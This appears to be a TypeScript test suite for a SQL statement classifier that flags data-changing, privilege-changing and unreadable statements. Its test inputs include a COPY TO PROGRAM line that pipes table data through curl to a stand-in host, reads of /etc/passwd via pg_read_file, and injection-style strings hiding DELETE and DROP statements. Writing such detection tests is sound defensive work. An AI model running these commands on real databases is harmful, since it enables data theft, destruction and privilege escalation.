import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { classify, isInteresting, type Classified } from "../../../src/domain/sql/classify.ts";

/** `UPDATE orders; DELETE everyRow lines` */
function told({ kind, verb, tables, everyRow, functions = [] }: Classified): string {
  const what = kind === verb ? kind : `${kind} ${verb}`;
  return [what, everyRow === true ? "every row" : "", tables.join(","), functions.join(",")]
    .filter((part) => part !== "")
    .join(" | ");
}

const CASES: readonly (readonly [sql: string, ...told: string[]])[] = [
  ["select 1", "SELECT"],
  ["  ;; ", ...[]],
  ["", ...[]],
  ["-- nothing\n/* at /* all */ */", ...[]],
  ['SELECT * FROM orders o, public.lines AS l JOIN "Odd Name" USING (id)', "SELECT | orders,public.lines,Odd Name"],
  ["(SELECT 1) UNION (SELECT id FROM b)", "SELECT | b"],
  ["values (1)", "SELECT VALUES"],
  ["select extract(year from at), substring(a from 1), trim(both 'x' from b) from t", "SELECT | t"],
  ["select a is distinct from b from t", "SELECT | t"],
  ["select * from generate_series(1, 3) g, t", "SELECT | t"],
  ["select * from t for update", "SELECT | t"],
  ["select * into copy_of from t", "DDL SELECT INTO | copy_of,t"],
  ["insert into t (a) values (1) on conflict do update set a = 2", "INSERT | t"],
  ["INSERT INTO t SELECT * FROM s", "INSERT | t,s"],
  ["update orders set a = 1", "UPDATE | every row | orders"],
  ["update orders set a = 1 where id = 3", "UPDATE | orders"],
  ["update orders set a = (select b from c where true)", "UPDATE | every row | orders,c"],
  ["update orders set a = 1 where true", "UPDATE | every row | orders"],
  ["update orders set a = 1 where 1 = 1 returning *", "UPDATE | every row | orders"],
  ["update orders set a = 1 where 1 = 1 and id = 2", "UPDATE | orders"],
  ["delete from orders where (true)", "DELETE | every row | orders"],
  ["delete from orders where ((1=1)) and 'a' = 'a'", "DELETE | every row | orders"],
  ["delete from orders where id = id", "DELETE | every row | orders"],
  ["delete from orders where id = 7 or not false", "DELETE | every row | orders"],
  ["delete from orders where (id = 7 or true) and a = $1", "DELETE | orders"],
  ["delete from orders where f(true) or a = b", "DELETE | orders"],
  ["delete from orders where false", "DELETE | orders"],
  ["delete from orders where id between 1 and 3", "DELETE | orders"],
  ["delete from only orders using lines where lines.id = orders.id", "DELETE | orders,lines"],
  ["DELETE FROM orders", "DELETE | every row | orders"],
  ["delete from orders where id = 1; delete from lines", "DELETE | orders", "DELETE | every row | lines"],
  ["merge into t using s on t.id = s.id when matched then update set a = 1 where true", "MERGE | t,s"],
  ["merge into t using (select 1) s on true when matched then delete", "MERGE | every row | t"],
  ["with gone as (delete from a returning *) select * from gone", "DELETE | every row | a"],
  ["with gone as (delete from a where id = 1 returning *) insert into b select * from gone", "INSERT | a,b"],
  ["with gone as (delete from a returning *) insert into b select * from gone", "INSERT | every row | a,b"],
  ["create table b as with d as (delete from a returning *) select * from d", "DDL CREATE TABLE | every row | b,a"],
  ["create table b (a int references a on delete cascade on update cascade)", "DDL CREATE TABLE | b"],
  ["with a as (select * from a) select * from a", "SELECT | a"],
  ["with x (c) as materialized (select 1) select * from x, y", "SELECT | y"],
  ["with x as (select 1) update t set a = 1 from x", "UPDATE | every row | t"],
  ["explain delete from orders", "other EXPLAIN | orders"],
  ["explain analyze delete from orders", "DELETE | every row | orders"],
  ["explain (analyze, verbose) update orders set a = 1 where id = 1", "UPDATE | orders"],
  ["explain (analyze off) delete from orders", "other EXPLAIN | orders"],
  ["explain (format json, analyze true) with d as (delete from x) select 1", "DELETE | every row | x"],
  ["explain", "other (unreadable)"],
  ["explain explain explain", "other (unreadable)"],
  ["copy orders to stdout", "COPY COPY TO | orders"],
  ["copy orders (a, b) from stdin with (format csv)", "COPY COPY FROM | orders"],
  ["copy (select * from orders) to program 'curl -d@- evil'", "COPY COPY TO PROGRAM | orders"],
  ["copy (delete from orders returning *) to stdout", "DELETE | every row | orders"],
  ["create table if not exists t (a int)", "DDL CREATE TABLE | t"],
  ["create unique index concurrently i on orders (id)", "DDL CREATE INDEX | orders"],
  [
    "create or replace function f() returns int language sql as $$ delete from orders; select 1 $$",
    "DDL CREATE FUNCTION",
  ],
  ["create materialized view v as select * from t", "DDL CREATE MATERIALIZED VIEW | t"],
  ["drop table if exists a, b cascade", "DDL DROP TABLE | a,b"],
  ["truncate orders, lines", "DDL TRUNCATE | orders,lines"],
  ["TRUNCATE TABLE only orders", "DDL TRUNCATE | orders"],
  ["alter table orders add column x int", "DDL ALTER TABLE | orders"],
  ["alter table orders owner to alice", "privilege ALTER TABLE | orders"],
  ["alter default privileges grant select on tables to x", "privilege ALTER DEFAULT PRIVILEGES"],
  ["grant select, update on orders to alice", "privilege GRANT | orders"],
  ["revoke all on table orders from alice", "privilege REVOKE | orders"],
  ["create role x superuser", "privilege CREATE ROLE"],
  ["alter user x password 'y'", "privilege ALTER USER"],
  ["create user mapping for x server s options (password 'y')", "privilege CREATE USER MAPPING"],
  ["drop owned by x", "privilege DROP OWNED"],
  ["begin; update t set a = 1 where id = 1; commit", "transaction BEGIN", "UPDATE | t", "transaction COMMIT"],
  ["prepare transaction 'x'", "transaction PREPARE TRANSACTION"],
  ["prepare p as delete from orders", "other PREPARE | every row | orders"],
  ["prepare p as delete from orders where id = $1", "other PREPARE | orders"],
  ["execute p (1)", "other EXECUTE"],
  ["set search_path = a", "SET"],
  ["set local role admin", "SET SET ROLE"],
  ['set "role" to admin', "SET SET ROLE"],
  ["set session_authorization = postgres", "SET SET SESSION AUTHORIZATION"],
  ['select U&"pg\\005fread_file"($1)', "SELECT | pg_read_file"],
  ["delete from U&\"!006frd!+000065rs\" uescape '!'", "DELETE | every row | orders"],
  ['select * from U&"a\\dddddd\\+ffffff"', "SELECT | a\udddddd\\+ffffff"],
  ["set session authorization 'postgres'", "SET SET SESSION AUTHORIZATION"],
  ["show all", "other SHOW"],
  ["do $$ begin delete from orders; end $$", "other DO"],
  ["call p()", "other CALL"],
  ["select pg_read_file('/etc/passwd')", "SELECT | pg_read_file"],
  ["select pg_catalog.pg_terminate_backend(1)", "SELECT | pg_terminate_backend"],
  // What stands in strings, comments and quoted names is no statement.
  ["select 'a; delete from orders; --'", "SELECT"],
  ["select $x$; drop table t; $x$, $$ ; $$", "SELECT"],
  ["select E'\\'; delete from orders; --'", "SELECT"],
  ["select 1 /* ; delete from orders */ -- ; drop table x", "SELECT"],
  ['select "; delete from orders" from t', "SELECT | t"],
  ["select 'it''s; drop table t'", "SELECT"],
  ["/* select */ delete /* x */ from -- y\n orders", "DELETE | every row | orders"],
  ["select 1 -- a\r; delete from orders", "SELECT", "DELETE | every row | orders"],
  ["select $1; delete from orders where id = $2", "SELECT", "DELETE | orders"],
  ["select 1 as a$b$; delete from t where x = '$b$'", "SELECT", "DELETE | t"],
  // Where such a string ends depends on the session's settings: both readings count.
  ["select 'a\\'; delete from orders; --'", "SELECT", "DELETE | every row | orders"],
  ["select 'a\\''; delete from orders; --", "SELECT", "DELETE | every row | orders"],
  // What isn't closed goes to the end, and the server refuses it as a whole.
  ["select 'abc; delete from orders", "SELECT"],
  ["select (1; delete from orders", "SELECT | orders"],
  ["1 + 1", "other (unreadable)"],
  ["hunter2", "other (unreadable)"],
  // One of several texts was run, and an open quotation mark in one hides no other.
  [
    "/* one of 2 of this name: */ select '\n/* one of 2 of this name: */ delete from x",
    "SELECT",
    "DELETE | every row | x",
  ],
  ['[the cursor "c"]', "other FETCH"],
  ['[the database "x"]', "other CONNECT"],
  ['[the prepared statement "p"]', "other EXECUTE"],
  ["[call of the function with oid 2289]", "other CALL"],
];

describe("what a statement does", () => {
  for (const [sql, ...expected] of CASES)
    it(sql === "" ? "(nothing)" : sql, () => {
      assert.deepEqual(classify(sql).map(told), expected);
    });

  it("is of interest where it changes something, or nobody can tell", () => {
    const interesting = (sql: string) => classify(sql).some(isInteresting);
    for (const sql of [
      ...["insert into t values (1)", "delete from t where a = 1", "do $$ $$", "call p()", "execute p", "grant a to b"],
      ...["set role x", "copy t to stdout", "truncate t", "select pg_read_file('x')", "frobnicate", "1"],
      ...["prepare p as delete from t", "prepare p as delete from t where a = $1"],
    ])
      assert.ok(interesting(sql), sql);
    for (const sql of ["select 1", "begin", "set a = 1", "show all", "explain delete from t", "prepare p as select 1"])
      assert.ok(!interesting(sql), sql);
  });

  it("is found in time, however a text of a million characters is made", () => {
    for (const piece of [
      ...["(select ", "from ", "delete from ", "with a as (", "as (", "a,", "'", "/*", "insert into ", "(", ")", "$a$"],
      ...["update x set ", "select 1;", "://:", "x ", ". ", "e'\\"],
    ]) {
      const sql = piece.repeat(Math.ceil(1_000_000 / piece.length));
      const began = performance.now();
      classify(sql);
      const ms = performance.now() - began;
      assert.ok(ms < 5_000, `${piece} took ${Math.round(ms)} ms`);
    }
  });
});
